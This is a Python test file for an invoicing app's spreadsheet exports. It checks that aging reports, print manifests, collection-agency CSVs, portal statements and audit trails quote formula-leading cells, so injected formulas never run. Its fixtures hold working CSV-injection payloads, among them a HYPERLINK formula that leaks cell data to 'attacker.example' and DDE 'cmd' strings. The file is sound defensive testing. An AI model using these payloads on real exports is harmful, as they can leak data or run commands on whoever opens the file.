"""No CSV/XLSX file CreditDesk writes carries a live spreadsheet formula (issue 12, item 10).

Each writer is fed customer text that a spreadsheet would run (=HYPERLINK, a DDE command, a
tab or line break before one), read back with csv / openpyxl, and no cell may start with a
formula character — while amounts, negative ones too, stay numbers.
"""
from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import select

from app.core.spreadsheets import FORMULA_TRIGGERS, append_row, csv_writer, safe_cell
from app.extensions import db
from tests.helpers import make_customer, make_invoice

LINK = '=HYPERLINK("http://attacker.example/?d="&A1;"Click")'
HOSTILE = [LINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", "\n=1+1"]


def _is_number(text: str) -> bool:
    """An amount or a phone number: digits after the sign, nothing a spreadsheet could call."""
    return re.fullmatch(r"[+-]?\d[\d .,]*", text) is not None


def assert_no_formula(rows) -> None:
    for row in rows:
        for cell in row:
            if isinstance(cell, str) and cell[:1] in FORMULA_TRIGGERS:
                assert _is_number(cell), f"formula cell {cell!r} in {row!r}"


def _csv_rows(data: bytes | str, delimiter: str) -> list[list[str]]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data.lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


# --- the helper ---------------------------------------------------------------------------------

@pytest.mark.parametrize("text", HOSTILE)
def test_text_starting_with_a_formula_character_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [Decimal("-12.50"), -3, 4.5, 0, date(2024, 1, 31), True])
def test_numbers_and_dates_stay_what_they_are(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", ["-12.50", "-1 234,56", "+32 2 123 45 67", "INV-1", "Bruxelles",
                                  "a=b", ""])
def test_plain_numbers_phone_numbers_and_ordinary_text_are_unchanged(text):
    assert safe_cell(text) == text


def test_none_is_an_empty_cell_and_other_objects_are_text():
    assert safe_cell(None) == ""
    class Name:
        def __str__(self):
            return "=x"

    assert safe_cell(Name()) == "'=x"


def test_the_csv_writer_and_the_sheet_helper():
    buffer = io.StringIO()
    writer = csv_writer(buffer, delimiter=";")
    writer.writerows([HOSTILE, [Decimal("-5.00"), "-5.00"]])
    rows = _csv_rows(buffer.getvalue(), ";")
    assert_no_formula(rows)
    assert rows[1] == ["-5.00", "-5.00"]

    from openpyxl import Workbook, load_workbook

    book = Workbook()
    append_row(book.active, [*HOSTILE, Decimal("-5.00"), 7])
    out = io.BytesIO()
    book.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    [values] = list(sheet.iter_rows(values_only=True))
    assert_no_formula([values])
    assert all(cell.data_type != "f" for cell in next(sheet.iter_rows()))
    assert values[-2:] == (-5, 7)


# --- every writer ------------------------------------------------------------------------------

def test_aging_report_csv_and_xlsx(staff_client):
    from openpyxl import load_workbook

    for n, name in enumerate(HOSTILE):
        customer = make_customer(name=f"{name}"[:100], number=f"=cmd|{n}")
        make_invoice(customer, total="10.00", due_in_days=-40)
    client = staff_client("AR clerk")

    response = client.get("/insights/aging.csv")
    assert response.status_code == 200
    rows = _csv_rows(response.data, ";")
    assert_no_formula(rows)
    names = {row[2] for row in rows}
    assert "'" + LINK in names
    assert rows[-1][-1] == "70.00"

    response = client.get("/insights/aging.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    values = list(sheet.iter_rows(values_only=True))
    assert_no_formula(values)
    assert "'" + LINK in {row[2] for row in values}
    customer_rows = [row for row in values[1:] if row[2] and row[2].startswith("'")]
    assert customer_rows and all(isinstance(row[-1], (int, float)) for row in customer_rows)
    # The "open credit notes" line is a negative amount: still a number.
    assert isinstance(values[-3][-1], (int, float))


def test_print_batch_manifest():
    from app.notifications.defaults import install_defaults
    from app.notifications.events import preview_context
    from app.notifications.models import PrintBatch
    from app.notifications.outbox import queue_message
    from app.notifications.print_batches import batch_zip

    install_defaults()
    customer = make_customer(name=LINK, delivery_channel="paper", number="@C1",
                             address_line1="+cmd|' /C calc'!A0", postal_code="1000",
                             city="=HYPERLINK(\"http://attacker.example\")")
    queue_message(customer, event="payment_received", template_key="payment_received",
                  context=preview_context("payment_received", customer),
                  idempotency_key="evt")
    db.session.commit()
    batch = db.session.scalar(select(PrintBatch))
    archive = zipfile.ZipFile(io.BytesIO(batch_zip(batch)))
    rows = _csv_rows(archive.read("manifest.csv"), ";")
    assert len(rows) == 2
    assert_no_formula(rows)
    assert rows[1][2] == "'@C1" and "HYPERLINK" in rows[1][4]


def _case(**debtor) -> dict:
    return {
        "case_id": "CD-1", "handed_over_on": "2024-05-01",
        "creditor": {"name": "=Creditor", "enterprise_number": "0123.456.789"},
        "debtor": {"number": "C1", "name": LINK, "kind": "person", "phone": "+32 2 123 45 67",
                   "email": "@evil.example", "address": {"line1": "\t=1+1", "postal_code": "1000",
                                                          "city": LINK, "country": "BE"},
                   **debtor},
        "invoices": [{"number": "-INV-1", "issue_date": "2024-01-01", "due_date": "2024-02-01",
                      "currency": "EUR", "total_amount": Decimal("120.00"),
                      "open_amount": Decimal("-20.00"), "claimed_amount": "120.00",
                      "fees": Decimal("0.00"), "structured_reference": "+++123/4567/89002+++"}],
        "reminders": [{"date": "2024-03-01", "level": "=formal notice"}],
    }


def test_collection_agency_csv(app, tmp_path):
    from plugins.collection_csv.export import CsvExport

    with app.test_request_context():
        name = CsvExport({"directory": str(tmp_path), "delimiter": ";"}).hand_over(_case())
    rows = list(csv.DictReader((Path(tmp_path) / name).read_text(encoding="utf-8")
                               .splitlines(), delimiter=";"))
    assert_no_formula([list(row.values()) for row in rows])
    [row] = rows
    assert row["city"] == "'" + LINK and row["debtor_name"] == "'" + LINK
    assert row["open_amount"] == "-20.00" and row["total_amount"] == "120.00"
    assert row["debtor_phone"] == "+32 2 123 45 67"  # a phone number runs nothing: kept
    assert row["structured_reference"] == "'+++123/4567/89002+++"


def test_collection_agency_csv_from_a_real_hand_over(tmp_path):
    """The dunning engine hands over a customer whose name and city are formulas."""
    from app.dunning.defaults import install_defaults as install_dunning_defaults
    from app.dunning.runs import run
    from app.notifications.defaults import install_defaults as install_templates
    from tests.dunning.conftest import consumer, enable_plugin, overdue, remind_state, today

    install_templates()
    install_dunning_defaults()
    enable_plugin("collection_csv", directory=str(tmp_path), delimiter=";")
    customer = consumer(name="-Renard+cmd|' /C calc'!A0", city=LINK)
    remind_state(overdue(customer, 90, total="400.00"), level=3, reminded_days_ago=20)

    assert run(today()).counts["handed_over"] == 1
    [file] = list(tmp_path.iterdir())
    rows = list(csv.DictReader(file.read_text(encoding="utf-8").splitlines(), delimiter=";"))
    assert_no_formula([list(row.values()) for row in rows])
    assert rows[0]["city"] == "'" + LINK
    assert rows[0]["debtor_name"] == "'-Renard+cmd|' /C calc'!A0"
    assert rows[0]["claimed_amount"] == "400.00"


def test_portal_statement_csv(app):
    from app.accounts import exports
    from app.accounts.statement import Statement, StatementLine

    customer = make_customer(name=LINK, language="en")
    today = date.today()
    lines = [StatementLine(today, "invoice", LINK, "@SUM(1)", Decimal("10.00"), Decimal(0),
                           Decimal("10.00")),
             StatementLine(today, "payment", "-cmd|x", "+cmd|' /C calc'!A0", Decimal(0),
                           Decimal("25.00"), Decimal("-15.00"))]
    found = Statement(customer, today - timedelta(days=30), today, Decimal("0.00"), lines,
                      Decimal("-15.00"), [("b0", "=label", Decimal("-15.00"))], Decimal("-15.00"))
    for language, delimiter in (("en", ","), ("fr", ";")):
        with app.test_request_context(f"/portal/statement.csv?lang={language}"):
            from flask_babel import force_locale

            with force_locale(language):
                rows = _csv_rows(exports.statement_csv(found), delimiter)
        assert_no_formula(rows)
        assert rows[2][2] == "'" + LINK and rows[3][3] == "'+cmd|' /C calc'!A0"
        assert rows[3][-1] in ("-15.00", "-15,00")


def test_audit_trail_csv(app):
    from app.core.audit_models import AuditEvent
    from app.retention.audit_views import CSV_COLUMNS, AuditEventView

    db.session.add(AuditEvent(actor_type="staff", actor=LINK, ip="=1+1", action="export",
                              entity="customer", entity_id="-1+1", changed_fields=["=a", "b"],
                              detail="@SUM(1)"))
    db.session.commit()
    body = "".join(AuditEventView._rows(db.session.query(AuditEvent)))
    rows = _csv_rows(body, ",")
    assert rows[0] == list(CSV_COLUMNS)
    assert_no_formula(rows)
    assert "'" + LINK in rows[1]
